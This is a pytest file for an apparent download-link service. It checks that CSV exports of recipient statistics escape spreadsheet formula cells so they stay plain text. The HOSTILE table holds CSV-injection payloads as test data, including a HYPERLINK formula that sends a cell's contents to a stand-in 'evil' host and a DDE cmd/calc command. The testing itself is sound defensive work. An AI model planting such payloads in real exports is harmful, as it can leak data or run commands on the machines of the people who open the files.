"""CSV exports open in a spreadsheet: a cell that starts like a formula must stay text there.

The openids are the ones from issue 16; a follower controls FromUserName, so they reach the
report's `recipient` column as written.
"""

from __future__ import annotations

import csv
import datetime
import io
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import insert

from tempdl.audit.tables import download_attempts, issuances
from tests.support import env_without_tempdl

PASSWORD = "csv-injection-test"
SERVER = Path(__file__).resolve().parents[2] / "server.py"
HOSTILE = {
    '=HYPERLINK("http://evil/?x="&A1,"click")': '\'=HYPERLINK("http://evil/?x="&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1)": "'@SUM(1)",
    "-2+3": "'-2+3",
    "\tTAB": "'\tTAB",
    "\rCR": "'\rCR",
    "oyORnuP8q7ou2gfYjqLzSIWZf0rs": "oyORnuP8q7ou2gfYjqLzSIWZf0rs",
}


@pytest.fixture
def config_text() -> str:
    return f'[admin]\npassword = "{PASSWORD}"\n'


@pytest.fixture
def hostile_history(audit):
    created = datetime.datetime(2026, 11, 30, 7, 0, tzinfo=datetime.UTC)
    with audit.engine.begin() as connection:
        for number, recipient in enumerate(HOSTILE, start=1):
            connection.execute(
                insert(issuances).values(
                    id=number,
                    created_at=created,
                    expires_at=created + datetime.timedelta(minutes=10),
                    file_id="hello.txt",
                    recipient=recipient,
                    channel="wechat",
                )
            )
            connection.execute(
                insert(download_attempts).values(
                    issuance_id=number,
                    file_id="hello.txt",
                    started_at=created,
                    finished_at=created,
                    outcome="ok",
                    http_status=200,
                    bytes_sent=13,
                )
            )


def recipients_column(text: str) -> dict[str, list[str]]:
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0][0] == "recipient"
    return {row[0]: row[1:] for row in table[1:]}


def assert_neutralised(column: dict[str, list[str]]) -> None:
    assert set(column) == set(HOSTILE.values())
    for cells in column.values():
        assert cells == ["1", "1", "1", "0", "0", "13"]  # numbers stay numbers


@pytest.mark.gen_test
async def test_admin_stats_csv_neutralises_formula_cells(fetch, hostile_history):
    response = await fetch("/admin/stats.csv?by=recipient", auth_username="admin", auth_password=PASSWORD)
    assert response.code == 200
    assert b"\n=HYPERLINK" not in response.body and b'\n"=HYPERLINK' not in response.body
    assert_neutralised(recipients_column(response.body.decode()))


def test_stats_format_csv_neutralises_formula_cells(settings, hostile_history, tmp_path):
    result = subprocess.run(
        [sys.executable, str(SERVER), "stats", "--by", "recipient", "--format", "csv", "--config", "tempdl.toml"],
        cwd=tmp_path,
        env={**env_without_tempdl(), "TEMPDL_DATABASE_URL": settings.database_url},
        capture_output=True,
        timeout=60,
    )  # bytes, not text: universal newlines would turn the cell's CR into LF
    assert result.returncode == 0, result.stderr
    assert_neutralised(recipients_column(result.stdout.decode()))
